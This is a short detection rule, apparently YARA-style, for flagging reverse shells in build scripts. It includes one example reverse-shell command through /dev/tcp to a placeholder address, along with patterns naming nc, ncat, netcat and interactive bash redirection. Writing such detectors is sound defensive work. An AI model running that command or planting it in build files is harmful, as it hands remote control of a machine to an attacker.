/*
The shapes of one-line reverse shells.

```rust,match
fn main() { run("bash -c 'exec 5<>/dev/tcp/192.0.2.1/9'"); }
```
```rust,clean
fn main() { println!("cargo:rerun-if-changed=src/dev/tcp.rs"); }
```
*/
rule reverse_shell : critical {
  meta:
    id = "c2b71f44-24cc-525b-b933-24bf0e4386af"
    description = "A shell is tied to a connection"
    author = "Sandpit"
    date = "2026-11-24"
    status = "stable"
    scope = "build-script"
    behaviours = "remote-control"
    references = "T1059.004, T1095, CWE-506"
  strings:
    $devtcp = "/dev/tcp/"
    $nc = /\bnc -[a-z]{0,3}e\b/
    $nclast = /\bnc [^"\n]{0,60} -[a-z]{0,3}e \/bin\//
    $netcat = /\b(ncat|netcat)\b[^"\n]{0,60} -[a-z]{0,3}e\b/
    $interactive = /\bbash\b[^"\n]{0,8} -i\b[^"\n]{0,8}>&/
  condition:
    any of them
}
